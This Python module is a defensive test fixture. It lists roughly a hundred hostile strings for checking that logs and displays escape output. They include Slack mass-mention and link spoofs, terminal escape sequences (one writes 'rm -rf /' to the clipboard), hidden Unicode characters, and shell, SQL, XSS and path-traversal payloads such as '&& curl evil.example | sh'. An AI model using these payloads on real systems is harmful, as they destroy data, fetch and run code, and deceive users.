"""A hundred texts that somebody might get into a log or a model's name, each meant to do something when shown."""

_SLACK = (
    "<!channel>", "<!here>", "<!everyone>", "<!subteam^S123|@oncall>", "<@U0000000ON>", "<#C0000ALERT>", "@channel",
    "@here", "@everyone now", "<https://evil.example|your login>", "<https://evil.example>", "<mailto:a@b.c|mail>",
    "<!date^0^{date}|never>", "<!date^0^{date}^https://evil.example|click>", "&lt;!channel&gt;", "&amp;&lt;x&gt;", "&",
    "*bold*", "_italics_", "~struck~",
    "`code`", "```fence```", "``` \n<!channel>\n ```", "> quote", ":fire:",
    ":rotating_light: :rotating_light:", ":100:", "• list", "# title", "[text](https://e.example)",
    "<a|b|c>", "<<>>", "<", ">", "a<b>c&d", "<!channel|here>", "<! channel>", "\n<!channel>", "`<!channel>`",
    "*<!here>*",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;a title\x07", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]52;c;cm0gLXJmIC8=\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b^secret\x1b\\", "\x1b[?1049h", "\x1b[6n", "\x1bc", "\x1b(0", "\x1b#8", "\x9b31m", "\x9d0;t\x07", "\x90x\x9c",
    "a\rb", "a\bb", "a\x00b", "a\x7fb", "a\x0bb\x0cc", "\x1b", "\x1b[", "\x1b]0;unfinished", "\x1b[38;5;", "\x07\x07",
    "\x1b[1A\x1b[2K gone", "\x1b[8mhidden\x1b[0m", "\x85next", "[/red]", "[bold red]x[/]",
    "[link=https://evil.example]x",
    ":skull:", "\\x1b[31m", "\x0e\x0f", "\x1b[200~paste\x1b[201~",
)  # fmt: skip
_UNSEEN = (
    "abc\u202egnp.exe", "\u2066a\u2067b\u2069", "\u200bzero\u200bwidth\u200b", "\ufeffmark", "soft\u00adhyphen",
    "\u2060join", "tag\U000e0041\U000e0042", "\u3164filler", "\u115f\u1160", "line\u2028break\u2029here", "\u061cmark",
    "Z̸̢̡̛̛̛̛̛̛̛̛͚͚͚͚͚͚͚algo", "\ud800lone", "\udfff", "\ue000private", "\u034fjoiner", "\u180evowel", "\U000e0101select",
)  # fmt: skip
_SHELL = (
    "; rm -rf /", "$(reboot)", "`reboot`", "| sh", "&& curl evil.example | sh", "' OR '1'='1", '"; exec sh; "',
    "\\\n; ls", "> /etc/passwd", "$HOME", "{a,b}", "!!", "*", "~root", "#comment", "--api-key\u00a0x", "\nreboot\n",
    "%s%n", "{cause}",
    "{{ 7 * 7 }}", "{% raw %}", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "]]>", "<!--", "'; DROP TABLE incident; --", "../../etc/passwd", "A" * 6_000, "𝒜" * 4_000, "\n" * 500,
)  # fmt: skip

HOSTILE: tuple[str, ...] = (*_SLACK, *_TERMINAL, *_UNSEEN, *_SHELL)

ACTIVE = "".join(
    chr(n)
    for span in (
        range(0x00, 0x09), range(0x0B, 0x20), range(0x7F, 0xA0), (0xAD, 0x61C, 0x180E, 0xFEFF, 0x3164, 0x115F, 0x1160),
        range(0x200B, 0x2010), range(0x2028, 0x202F), range(0x2060, 0x2070),
        range(0xD800, 0xE001), range(0xE0000, 0xE0080), range(0xE0100, 0xE01F0), range(0xFE00, 0xFE0F),
        (0x34F, 0x17B4, 0x17B5, 0x180B, 0x2800, 0xFFA0, 0xFFF0, 0xE01FF, 0xE0FFF),
    )
    for n in span
)  # fmt: skip
"""Characters of which none may reach a reader."""
